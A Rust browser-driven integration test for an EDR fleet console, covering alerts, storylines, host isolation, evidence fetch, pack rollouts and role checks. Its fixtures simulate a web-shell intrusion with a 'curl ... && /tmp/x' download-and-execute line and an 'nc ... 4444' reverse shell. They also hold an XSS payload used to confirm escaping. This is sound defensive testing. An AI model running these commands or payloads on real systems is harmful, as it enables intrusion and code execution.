//! The console in a real browser: Debian's headless Chromium driven through
//! chromedriver (WebDriver, crate `fantoccini`), against the server with the
//! console, a real nats-server, and one enrolled host whose fleet link runs
//! in this process over a real `edr-store` record (its alerts arrive through
//! the link; its signed commands are verified by the link's own checks).
//! The host has no agent: isolate/release are answered by this test's
//! executor, which records what reached it verified; queries and storylines
//! run on the record's own read paths; the process and socket lists are the
//! real ones; pack installs are staged or refused as a pack manager would.
//! Screenshots of every page go to `target/console-screenshots/`.

mod common;

use common::browser::{accept, browser, load_key, login, ready, respond, respond_with, screenshots, shot, start_driver, text_of, wait_text, wait_until_url};
use common::{enroll, feed_alert, Harness, PASSWORD};
use edr_event::{Alert, Event, EventBody, FileEvent, FileOp, Finding, NetworkEvent, NetworkOp, ProcessExec, ProcessExit, Severity, Transport};
use edr_fleet_link::commands::{BuiltIn, CommandExecutor};
use edr_fleet_link::{FleetLink, LinkOptions};
use edr_fleet_proto::command::{Command, CommandBody};
use edr_store::{Store, StoreConfig, StorylineOptions};
use edr_testkit::wait_until;
use fantoccini::Locator;
use serde_json::{json, Value};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

const INJECTION: &str = "<img src=x onerror=\"document.body.dataset.pwned='1'\">Injected";

/// The agent's status: its pipeline counts 50 events a second since the test started.
fn status_doc() -> Result<Value, String> {
    static START: std::sync::OnceLock<Instant> = std::sync::OnceLock::new();
    let events = START.get_or_init(Instant::now).elapsed().as_millis() as u64 / 20;
    Ok(json!({
        "pipeline": {"events": events, "queued_events": 0},
        "agent": {"version": "0.1.0-test"},
        "packs": {"active": [{"id": "edr.builtin", "version": "1.0.0"}]},
        "collectors": [{"name": "process", "mode": "ebpf", "dropped": 0, "lost": 0}],
        "response": {"isolation": {"isolated": false}},
    }))
}

/// The test host's executor: queries over its record, the link's read-only
/// commands, and isolate/release recorded (no response engine here).
struct TestExec {
    store: Arc<Store>,
    builtin: BuiltIn,
    seen: Arc<Mutex<Vec<(String, String)>>>,
}

impl CommandExecutor for TestExec {
    fn execute(&self, body: &CommandBody) -> Result<Value, String> {
        match &body.command {
            Command::Query { sql, .. } => {
                let r = self.store.query(sql).map_err(|e| e.to_string())?;
                Ok(json!({"columns": r.columns, "rows": r.rows, "truncated": r.truncated}))
            }
            Command::Isolate | Command::Release => {
                self.seen.lock().unwrap().push((body.command.op().to_string(), body.reason.clone()));
                Ok(json!({"test_host": "no response engine here: the verified command was recorded", "op": body.command.op()}))
            }
            Command::Storyline { alert, max_events, ancestor_activity } => {
                let opts = StorylineOptions { max_events: *max_events as usize, ancestor_activity: *ancestor_activity, ..Default::default() };
                let story = self.store.storyline(*alert, opts).map_err(|e| e.to_string())?;
                serde_json::to_value(&story).map_err(|e| e.to_string())
            }
            Command::PackRollback { name, version } => {
                self.seen.lock().unwrap().push((body.command.op().to_string(), body.reason.clone()));
                Ok(json!({"name": name, "rolled_back_from": version, "active": "1.0.0"}))
            }
            // The agent's answer to a fetch (its engine copies the file into the evidence store first).
            Command::Fetch { path } => {
                use sha2::Digest;
                let bytes = std::fs::read(path).map_err(|e| e.to_string())?;
                let claimed = if path.ends_with("tampered") { "0".repeat(64) } else { hex::encode(sha2::Sha256::digest(&bytes)) };
                Ok(json!({"path": path, "size": bytes.len(), "sha256": claimed, "content_base64": base64_encode(&bytes)}))
            }
            _ => self.builtin.execute(body),
        }
    }

    /// As the agent's pack manager answers: `bad.pack`'s publisher is not trusted here; the rest is staged.
    fn install_pack(&self, body: &CommandBody, archive: Vec<u8>) -> Result<Value, String> {
        let Command::PackInstall { name, version, .. } = &body.command else { return Err("not a pack_install".into()) };
        if name == "bad.pack" {
            return Err(format!("{name} {version}: the signature is not by a key in this host's trust store (packs/trusted.d): not installed"));
        }
        Ok(json!({"state": "staged", "name": name, "version": version, "bytes": archive.len()}))
    }
}

const T0: u64 = 1_700_000_000_000_000_000;
const S: u64 = 1_000_000_000;

fn exec(id: u64, pid: u32, ppid: u32, entity: u64, parent: u64, exe: &str, argv: &[&str]) -> Event {
    let body = EventBody::ProcessExec(ProcessExec {
        pid,
        ppid,
        entity_id: entity,
        parent_entity_id: parent,
        exe: exe.into(),
        argv: argv.iter().map(|s| s.to_string()).collect(),
        cwd: "/".into(),
        uid: 33,
        user: "www-data".into(),
        start_time: T0 + id * S,
        ..Default::default()
    });
    Event { id, time: T0 + id * S, partial: false, body }
}

fn file_event(id: u64, op: FileOp, path: &str, pid: u32, entity: u64, exe: &str) -> Event {
    let body = EventBody::File(FileEvent {
        op,
        path: path.into(),
        old_path: None,
        mode: Some(0o755),
        pid: Some(pid),
        entity_id: Some(entity),
        exe: Some(exe.into()),
        uid: Some(33),
    });
    Event { id, time: T0 + id * S, partial: false, body }
}

fn connect(id: u64, pid: u32, entity: u64, exe: &str, remote: &str, port: u16) -> Event {
    let body = EventBody::Network(NetworkEvent {
        op: NetworkOp::Connect,
        transport: Transport::Tcp,
        local_ip: "10.0.0.5".into(),
        local_port: 41000,
        remote_ip: remote.into(),
        remote_port: port,
        pid: Some(pid),
        entity_id: Some(entity),
        exe: Some(exe.into()),
        uid: Some(33),
        netns: None,
        bytes_sent: None,
        bytes_received: None,
    });
    Event { id, time: T0 + id * S, partial: false, body }
}

/// A web shell's story in the record: systemd → nginx → sh (the alert) → curl
/// (downloads /tmp/x from 203.0.113.50) → /tmp/x; an unrelated ssh session beside it.
/// Returns the events and the shell's exec (the alert's trigger).
fn attack() -> (Vec<Event>, Event) {
    let sh = exec(13, 2000, 1500, 0xa2, 0xa1, "/bin/sh", &["sh", "-c", "curl -o /tmp/x http://203.0.113.50/x && /tmp/x"]);
    let events = vec![
        exec(10, 1, 0, 0x1, 0, "/usr/lib/systemd/systemd", &["/sbin/init"]),
        exec(11, 1500, 1, 0xa1, 0x1, "/usr/sbin/nginx", &["nginx", "-g", "daemon off;"]),
        file_event(12, FileOp::Read, "/etc/nginx/nginx.conf", 1500, 0xa1, "/usr/sbin/nginx"),
        sh.clone(),
        exec(14, 2001, 2000, 0xa3, 0xa2, "/usr/bin/curl", &["curl", "-o", "/tmp/x", "http://203.0.113.50/x"]),
        connect(15, 2001, 0xa3, "/usr/bin/curl", "203.0.113.50", 80),
        file_event(16, FileOp::Create, "/tmp/x", 2001, 0xa3, "/usr/bin/curl"),
        Event { id: 17, time: T0 + 17 * S, partial: false, body: EventBody::ProcessExit(ProcessExit { pid: 2001, entity_id: 0xa3, exit_code: 0 }) },
        exec(18, 2002, 2000, 0xa4, 0xa2, "/tmp/x", &["/tmp/x", INJECTION]),
        connect(19, 2002, 0xa4, "/tmp/x", "198.51.100.77", 4444),
        exec(30, 900, 1, 0xb1, 0x1, "/usr/sbin/sshd", &["sshd: alice"]),
        connect(31, 900, 0xb1, "/usr/sbin/sshd", "192.0.2.10", 51000),
    ];
    (events, sh)
}

fn base64_encode(bytes: &[u8]) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

fn alert(id: u64, title: &str, message: &str) -> Alert {
    Alert {
        id,
        time: 1_700_000_000_000_000_000 + id * 1_000_000_000,
        plugin: "lineage".into(),
        pack: None,
        finding: Finding {
            rule_id: format!("edr.test.rule{id}"),
            title: title.into(),
            severity: Severity::High,
            techniques: vec!["T1059".into()],
            message: message.into(),
            author: "tests".into(),
            event_ids: vec![],
            evidence: vec![("matched".into(), message.into())],
        },
        event: None,
    }
}

/// The alert the record raised on the shell: its finding names the exec.
fn shell_alert(id: u64, sh: &Event) -> Alert {
    let mut a = alert(id, "Service spawned a shell", "nginx started sh");
    a.time = sh.time;
    a.finding.event_ids = vec![sh.id];
    a.event = Some(sh.clone());
    a
}

/// Publishes pack `name` 1.0.0 (a stand-in archive: the host checks size and sha256, its pack manager decides) to `host`.
fn publish_pack(h: &Harness, key: &std::path::Path, host: &str, name: &str) {
    use sha2::Digest;
    let archive = format!("{name} archive bytes").into_bytes();
    let cmd = Command::PackInstall {
        name: name.into(),
        version: "1.0.0".into(),
        sha256: hex::encode(sha2::Sha256::digest(&archive)),
        size: archive.len() as u64,
        signature: "untrusted comment: test\n".into(),
    };
    let signed = edr_fleet_server::client::sign_command_with_reason(key, host, cmd, "rollout", 300).unwrap();
    h.admin.post("/api/v1/packs", &json!({"archive_base64": base64_encode(&archive), "commands": [signed]})).unwrap();
}

fn pack_state(h: &Harness, name: &str) -> String {
    h.admin.get(&format!("/api/v1/packs/{name}")).map(|v| v["hosts"][0]["state"].as_str().unwrap_or("").to_string()).unwrap_or_default()
}

#[test]
fn the_console_in_a_real_browser() {
    if !edr_testkit::have_program("nats-server", "nats-server") || !common::browser::have_browser() {
        return;
    }
    let h = Harness::start(Duration::from_secs(600));
    let data = tempfile::tempdir().unwrap();
    let host = enroll(&h, data.path(), "web-1");
    let store = Arc::new(Store::open(StoreConfig::new(data.path().join("events.db"))).unwrap());
    let w = store.writer();
    w.append_alert(&alert(1, "Suspicious shell", "bash -i from a web server")).unwrap();
    w.append_alert(&alert(2, INJECTION, "<script>document.body.dataset.pwned='2'</script>")).unwrap();
    let (events, sh) = attack();
    w.append_events(Arc::new(events)).unwrap();
    w.flush().unwrap();
    w.append_alert(&shell_alert(3, &sh)).unwrap();
    w.flush().unwrap();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let exec = TestExec { store: store.clone(), builtin: BuiltIn(Arc::new(status_doc)), seen: seen.clone() };
    let opts =
        LinkOptions { agent_version: "test".into(), alert_poll: Duration::from_millis(100), heartbeat: Some(Duration::from_secs(1)), ..Default::default() };
    let link = FleetLink::start_with(data.path(), opts, store.clone(), Arc::new(status_doc), Arc::new(exec)).unwrap();
    let incident = |pid: u64| {
        json!({"message": "reverse shell to 203.0.113.9:4444", "host": {"hostname": "web-1"}, "threat": {"technique": {"id": ["T1059.004"]}},
               "rule": {"author": ["edr team"]}, "edr": {"incident": {"id": "7"}, "pack": {"id": "acme.pack", "version": "1.2.0", "signer": "acme-signing-key"}},
               "process": {"pid": pid, "executable": "/usr/bin/nc", "command_line": "nc 203.0.113.9 4444", "parent": {"pid": 4000, "executable": "/bin/bash"}}})
    };
    feed_alert(&h, &host, 100, "critical", "Reverse shell", incident(4242));
    feed_alert(&h, &host, 101, "medium", "Outbound connection from shell", incident(4243));
    assert!(wait_until(Duration::from_secs(30), || common::alert_count(&h) == 5), "5 alerts indexed");
    assert!(wait_until(Duration::from_secs(30), || h.admin.get("/api/v1/hosts").unwrap()["hosts"][0]["state"] == "online"));
    // Two rollouts: one the host stages, one its pack manager refuses.
    publish_pack(&h, &h.key_file(), &host, "acme.pack");
    publish_pack(&h, &h.key_file(), &host, "bad.pack");
    assert!(wait_until(Duration::from_secs(30), || pack_state(&h, "acme.pack") == "staged" && pack_state(&h, "bad.pack") == "refused"), "rollouts answered");
    // A socket of this process the connections panel must show.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let listen_port = listener.local_addr().unwrap().port();

    let (driver, port) = start_driver();
    let profile = tempfile::tempdir().unwrap();
    let key = h.key_file();
    let base = h.base.clone();
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    rt.block_on(async {
        let c = browser(port, profile.path()).await;
        c.set_window_size(1400, 1000).await.unwrap();

        // Login: a wrong password first.
        login(&c, &base, "alice", "wrong password!").await;
        assert!(text_of(&c, ".error").await.contains("Wrong name or password"));
        shot(&c, "login-failed").await;
        login(&c, &base, "alice", PASSWORD).await;
        ready(&c).await;

        // Hosts.
        let row = wait_text(&c, "#hosts tbody", "web-1").await;
        assert!(row.contains("online") && row.contains("ebpf") && row.contains("edr.builtin 1.0.0"), "{row}");
        // Events per second: the page measures the heartbeats' counter while it is open (two heartbeats at least).
        let end = Instant::now() + Duration::from_secs(30);
        let eps = loop {
            let v = c.execute("return (document.querySelector('#hosts .eps') || {dataset: {}}).dataset.eps || ''", vec![]).await.unwrap();
            if let Some(r) = v.as_str().and_then(|s| s.parse::<f64>().ok()) {
                break r;
            }
            assert!(Instant::now() < end, "no events/s measured");
            tokio::time::sleep(Duration::from_millis(200)).await;
        };
        assert!((25.0..=100.0).contains(&eps), "the host counts 50 events/s; the page says {eps}");
        assert!(text_of(&c, "#hosts tbody").await.contains("/s"));
        shot(&c, "hosts").await;

        // Alerts: newest first, grouped by incident, injection shown as text.
        c.goto(&format!("{base}/console/alerts")).await.unwrap();
        ready(&c).await;
        let table = text_of(&c, "#alerts").await;
        assert!(table.contains("Incident 7 on web-1") && table.contains("2 alert(s), highest critical"), "{table}");
        assert!(table.contains(INJECTION), "the injected title is shown as text: {table}");
        let pwned =
            c.execute("return [document.body.dataset.pwned || null, document.querySelectorAll('#alerts img, #alerts script').length]", vec![]).await.unwrap();
        assert_eq!(pwned, json!([null, 0]), "nothing from an alert ran or became markup");
        assert!(c.find_all(Locator::Css("#charts svg rect")).await.unwrap().len() > 4, "the charts are drawn");
        shot(&c, "alerts").await;
        // Acknowledge one alert with a note, through the page's bulk action.
        c.find(Locator::Css(&format!("input.pick[data-key='{host}:1']"))).await.unwrap().click().await.unwrap();
        c.find(Locator::Id("bulk-note")).await.unwrap().send_keys("looking into it").await.unwrap();
        c.find(Locator::Id("bulk-ack")).await.unwrap().click().await.unwrap();
        wait_text(&c, "#bulk-result", "1 acknowledged").await;
        let a = h.admin.get(&format!("/api/v1/alerts?host={host}&limit=10")).unwrap();
        let one = a["alerts"].as_array().unwrap().iter().find(|a| a["alert_id"] == 1).unwrap().clone();
        assert_eq!(
            (one["state"].as_str(), one["state_by"].as_str(), one["note"].as_str()),
            (Some("acknowledged"), Some("console:alice"), Some("looking into it"))
        );

        // One alert: rule, author, pack signer, evidence, the storyline's state.
        c.goto(&format!("{base}/console/alerts/{host}/100")).await.unwrap();
        ready(&c).await;
        let detail = text_of(&c, "#alert-detail").await;
        assert!(detail.contains("edr team") && detail.contains("acme-signing-key") && detail.contains("T1059.004"), "{detail}");
        // Without a key: the alert's own process, and a notice saying what fetching needs.
        assert!(text_of(&c, "#storyline").await.contains("/usr/bin/nc"));
        assert!(text_of(&c, "#storyline-key").await.contains("load your command key"));
        shot(&c, "alert").await;
        // With it (loaded in the respond panel), the host answers: alert 100 came from elsewhere, it does not know it.
        load_key(&c, &key).await;
        let err = wait_text(&c, "#storyline-error", "storyline: failed").await;
        assert!(err.contains("100"), "{err}");

        // The record's own alert: its live storyline, the key loaded from the storyline's own button.
        c.goto(&format!("{base}/console/alerts/{host}/3")).await.unwrap();
        ready(&c).await;
        c.find(Locator::Id("storyline-key-file")).await.unwrap().send_keys(&key.display().to_string()).await.unwrap();
        let status = wait_text(&c, "#storyline-status", "process(es)").await;
        assert!(status.contains("5 process(es), 1 file and 2 network event(s)"), "{status}");
        let trigger = text_of(&c, "#storyline-tree li.self > .proc").await;
        assert!(trigger.contains("2000 /bin/sh") && trigger.contains("trigger"), "{trigger}");
        let tree = text_of(&c, "#storyline-tree").await;
        for want in [
            "/usr/lib/systemd/systemd",
            "/usr/sbin/nginx",
            "2001 /usr/bin/curl",
            "file create /tmp/x",
            "tcp connect 10.0.0.5:41000 → 203.0.113.50:80",
            "exited with code 0",
            "198.51.100.77:4444",
        ] {
            assert!(tree.contains(want), "{want:?} in the storyline: {tree}");
        }
        assert!(!tree.contains("sshd") && !tree.contains("nginx.conf"), "nothing unrelated, no ancestor activity unasked: {tree}");
        assert!(tree.contains(INJECTION), "the host's argv is shown as text: {tree}");
        let pwned = c.execute("return [document.body.dataset.pwned || null, document.querySelectorAll('#storyline img').length]", vec![]).await.unwrap();
        assert_eq!(pwned, json!([null, 0]), "nothing from the host's record ran or became markup");
        // Descendants sit under the shell: curl's line is inside the trigger's item.
        assert!(text_of(&c, "#storyline-tree li.self").await.contains("/tmp/x"));
        shot(&c, "storyline").await;
        // Ancestors' activity on request.
        c.find(Locator::Id("storyline-ancestors")).await.unwrap().click().await.unwrap();
        c.find(Locator::Id("storyline-fetch")).await.unwrap().click().await.unwrap();
        wait_text(&c, "#storyline-tree", "/etc/nginx/nginx.conf").await;

        // Host page: respond without a key is refused in the page; with it, isolate and release.
        c.goto(&format!("{base}/console/hosts/{host}")).await.unwrap();
        ready(&c).await;
        c.find(Locator::Id("action-reason")).await.unwrap().send_keys("case 17").await.unwrap();
        c.execute("document.getElementById('action').value = 'isolate'; document.getElementById('action').dispatchEvent(new Event('change'));", vec![])
            .await
            .unwrap();
        c.find(Locator::Id("action-go")).await.unwrap().click().await.unwrap();
        wait_text(&c, "#action-result", "no command key loaded").await;
        load_key(&c, &key).await;
        let isolated = respond(&c, "isolate", "case 17: beaconing").await;
        assert!(isolated.contains("isolate: done"), "{isolated}");
        let released = respond(&c, "release", "case 17: cleaned").await;
        assert!(released.contains("release: done"), "{released}");
        assert_eq!(*seen.lock().unwrap(), vec![("isolate".into(), "case 17: beaconing".into()), ("release".into(), "case 17: cleaned".into())]);
        // Fetch: the content's sha256 is checked in the page before it offers the download.
        let evidence = data.path().join("evidence.txt");
        std::fs::write(&evidence, b"dropped payload").unwrap();
        let fetched = respond_with(&c, "fetch", &evidence.display().to_string(), "case 17: evidence").await;
        assert!(fetched.contains("fetch: done"), "{fetched}");
        let checked = wait_text(&c, "#action-result", "checked").await;
        assert!(checked.contains("Download evidence.txt") && !checked.contains("ZHJvcHBlZCBwYXlsb2Fk"), "{checked}");
        let tampered = data.path().join("tampered");
        std::fs::write(&tampered, b"x").unwrap();
        respond_with(&c, "fetch", &tampered.display().to_string(), "case 17: evidence").await;
        let refused = wait_text(&c, "#action-result", "sha256 mismatch").await;
        assert!(!refused.contains("Download"), "no download of content that does not match: {refused}");
        c.find(Locator::Id("live-ps")).await.unwrap().click().await.unwrap();
        wait_text(&c, "#live-result", "processes").await;
        shot(&c, "host").await;
        // Connections: the host's real sockets; this test's listener found by the filter.
        c.find(Locator::Id("live-conns")).await.unwrap().click().await.unwrap();
        let all = wait_text(&c, "#conn-count", "sockets").await;
        c.find(Locator::Id("conn-filter")).await.unwrap().send_keys(&format!("127.0.0.1:{listen_port} listen")).await.unwrap();
        let count = wait_text(&c, "#conn-count", "1 of").await;
        assert!(count.starts_with("1 of ") && all.ends_with(&count[5..]), "{all} / {count}");
        let row = text_of(&c, "#conn-table tbody").await;
        let me = std::env::current_exe().unwrap().display().to_string();
        assert!(row.contains("tcp") && row.contains("LISTEN") && row.contains(&std::process::id().to_string()) && row.contains(&me), "{row}");
        c.find(Locator::Id("conn-filter")).await.unwrap().clear().await.unwrap();
        c.find(Locator::Id("conn-filter")).await.unwrap().send_keys("no such socket anywhere").await.unwrap();
        wait_text(&c, "#conn-table tbody", "no socket matches").await;
        c.find(Locator::Id("conn-filter")).await.unwrap().clear().await.unwrap();
        c.find(Locator::Id("conn-filter")).await.unwrap().send_keys("tcp").await.unwrap();
        c.execute("document.getElementById('connections').scrollIntoView()", vec![]).await.unwrap();
        shot(&c, "host-connections").await;

        // Hunt: signed in the page, every host's rows with a host column.
        c.goto(&format!("{base}/console/hunt")).await.unwrap();
        ready(&c).await;
        load_key(&c, &key).await;
        let sql = c.find(Locator::Id("sql")).await.unwrap();
        sql.clear().await.unwrap();
        sql.send_keys("SELECT id, rule_name FROM alert ORDER BY id").await.unwrap();
        c.find(Locator::Id("run-hunt")).await.unwrap().click().await.unwrap();
        let status = wait_text(&c, "#hunt-status", "row(s)").await;
        assert!(status.starts_with("3 row(s)") && status.contains(&format!("{host}: done")), "{status}");
        let result = text_of(&c, "#hunt-result").await;
        assert!(result.contains("host") && result.contains(&host) && result.contains("Suspicious shell"), "{result}");
        assert_eq!(c.find(Locator::Id("export-csv")).await.unwrap().attr("disabled").await.unwrap(), None);
        shot(&c, "hunt").await;

        // Packs: each host's state with the refusal's reason; a responder may halt, not roll back.
        c.goto(&format!("{base}/console/packs")).await.unwrap();
        ready(&c).await;
        let packs = text_of(&c, "#packs").await;
        assert!(packs.contains("acme.pack") && packs.contains("bad.pack") && packs.contains("refused 1") && packs.contains("staged 1"), "{packs}");
        c.find(Locator::Css("button.pack-open[data-name='bad.pack']")).await.unwrap().click().await.unwrap();
        let hosts = wait_text(&c, "#pack-hosts", "refused").await;
        assert!(hosts.contains("web-1") && hosts.contains("not by a key in this host's trust store"), "{hosts}");
        c.find(Locator::Css("button.pack-open[data-name='acme.pack']")).await.unwrap().click().await.unwrap();
        wait_text(&c, "#pack-name", "acme.pack 1.0.0").await;
        wait_text(&c, "#pack-hosts", "staged").await;
        assert!(text_of(&c, "#pack-disabled").await.contains("rolling back needs the admin role"));
        assert!(c.find(Locator::Id("pack-rollback")).await.unwrap().attr("disabled").await.unwrap().is_some());
        shot(&c, "packs").await;
        c.find(Locator::Id("pack-halt")).await.unwrap().click().await.unwrap();
        accept(&c).await;
        wait_text(&c, "#pack-status", "acme.pack 1.0.0: halted").await;
        wait_text(&c, "#pack-summary", "halted").await;
        assert_eq!(h.admin.get("/api/v1/packs/acme.pack").unwrap()["halted"], true);

        c.goto(&format!("{base}/console/audit")).await.unwrap();
        ready(&c).await;
        let audit = text_of(&c, "#audit").await;
        assert!(audit.contains("console:alice") && audit.contains("isolate on") && audit.contains("case 17: beaconing"), "{audit}");
        shot(&c, "audit").await;

        // An admin rolls the staged pack back: one pack_rollback signed in the page with the reason.
        c.find(Locator::Id("logout")).await.unwrap().click().await.unwrap();
        wait_until_url(&c, "/console/login").await;
        login(&c, &base, "root", PASSWORD).await;
        ready(&c).await;
        c.goto(&format!("{base}/console/packs")).await.unwrap();
        ready(&c).await;
        c.find(Locator::Css("button.pack-open[data-name='acme.pack']")).await.unwrap().click().await.unwrap();
        wait_text(&c, "#pack-hosts", "staged").await;
        c.find(Locator::Id("pack-rollback")).await.unwrap().click().await.unwrap();
        wait_text(&c, "#pack-status", "give a reason").await;
        c.find(Locator::Id("pack-reason")).await.unwrap().send_keys("case 18: noisy rule").await.unwrap();
        c.find(Locator::Id("pack-rollback")).await.unwrap().click().await.unwrap();
        wait_text(&c, "#pack-status", "no command key loaded").await;
        load_key(&c, &key).await;
        c.find(Locator::Id("pack-rollback")).await.unwrap().click().await.unwrap();
        accept(&c).await;
        let rolled = wait_text(&c, "#pack-status", "rolled_back").await;
        assert!(rolled.contains("web-1 rolled_back"), "{rolled}");
        wait_text(&c, "#pack-hosts", "rolled_back").await;
        assert_eq!(seen.lock().unwrap().last().unwrap(), &("pack_rollback".to_string(), "case 18: noisy rule".to_string()));
        shot(&c, "packs-rollback").await;

        // A viewer: responding is disabled in the page, and a POST forged from the page is refused by the API.
        c.find(Locator::Id("logout")).await.unwrap().click().await.unwrap();
        wait_until_url(&c, "/console/login").await;
        login(&c, &base, "vic", PASSWORD).await;
        ready(&c).await;
        c.goto(&format!("{base}/console/hosts/{host}")).await.unwrap();
        ready(&c).await;
        assert!(text_of(&c, "#respond-disabled").await.contains("responder role"));
        assert!(c.find(Locator::Id("action-go")).await.unwrap().attr("disabled").await.unwrap().is_some());
        shot(&c, "viewer-host").await;
        c.goto(&format!("{base}/console/alerts/{host}/3")).await.unwrap();
        ready(&c).await;
        assert!(text_of(&c, "#storyline-role").await.contains("needs the responder role"));
        c.goto(&format!("{base}/console/packs")).await.unwrap();
        ready(&c).await;
        c.find(Locator::Css("button.pack-open[data-name='bad.pack']")).await.unwrap().click().await.unwrap();
        assert!(wait_text(&c, "#pack-disabled", "halting a rollout needs the responder role").await.contains("viewer"));
        for b in ["pack-halt", "pack-rollback"] {
            assert!(c.find(Locator::Id(b)).await.unwrap().attr("disabled").await.unwrap().is_some(), "{b} disabled for a viewer");
        }
        assert!(c.find(Locator::Id("key-file")).await.is_err(), "no key panel for a viewer");
        let forged = c
            .execute_async(
                &format!(
                    "const done = arguments[arguments.length - 1];
                     fetch('/api/v1/alerts/{host}/1/triage', {{method: 'POST', headers: {{'Content-Type': 'application/json',
                       'X-CSRF-Token': document.querySelector('meta[name=csrf-token]').content}}, body: JSON.stringify({{state: 'closed'}})}})
                       .then(async r => done([r.status, await r.json()]));"
                ),
                vec![],
            )
            .await
            .unwrap();
        assert_eq!(forged[0], 403, "{forged}");
        assert_eq!(forged[1]["error"]["code"], "forbidden");
        // A kill signed with the operator's key, posted from the viewer's page: refused by the API's roles.
        let kill = edr_fleet_server::client::sign_command_with_reason(&key, &host, Command::Kill { pid: 1, tree: false }, "viewer", 60).unwrap();
        let kill = serde_json::to_string(&kill).unwrap();
        let refused = c
            .execute_async(
                &format!(
                    "const done = arguments[arguments.length - 1];
                     fetch('/api/v1/hosts/{host}/commands', {{method: 'POST', headers: {{'Content-Type': 'application/json',
                       'X-CSRF-Token': document.querySelector('meta[name=csrf-token]').content}}, body: arguments[0]}})
                       .then(async r => done([r.status, await r.json()]));"
                ),
                vec![json!(kill)],
            )
            .await
            .unwrap();
        assert_eq!((refused[0].as_u64(), refused[1]["error"]["code"].as_str()), (Some(403), Some("forbidden")), "{refused}");
        c.close().await.unwrap();
    });
    // The page's signed bodies are the CLI's serialization, byte for byte.
    let bodies: Vec<String> =
        h.audit().iter().filter(|e| e["change"]["kind"] == "command").map(|e| e["change"]["body"].as_str().unwrap().to_string()).collect();
    let mut ops: Vec<String> = bodies.iter().map(|b| serde_json::from_str::<CommandBody>(b).unwrap().command.op().to_string()).collect();
    ops.sort();
    let want = [
        "connections",
        "fetch",
        "fetch",
        "isolate",
        "pack_install",
        "pack_install",
        "pack_rollback",
        "processes",
        "query",
        "release",
        "storyline",
        "storyline",
        "storyline",
    ];
    assert_eq!(ops, want, "every command the page and the test signed");
    for b in &bodies {
        let parsed: CommandBody = serde_json::from_str(b).unwrap();
        assert_eq!(&serde_json::to_string(&parsed).unwrap(), b, "the page's body is what the CLI would sign");
        assert_eq!(parsed.v, parsed.command.min_version());
    }
    let after = h.admin.get(&format!("/api/v1/alerts?host={host}&limit=10")).unwrap();
    assert!(after["alerts"].as_array().unwrap().iter().any(|a| a["alert_id"] == 1 && a["state"] == "acknowledged"), "the viewer closed nothing");
    drop(listener);
    drop(driver);
    link.stop();
    eprintln!("screenshots in {}", screenshots().display());
}
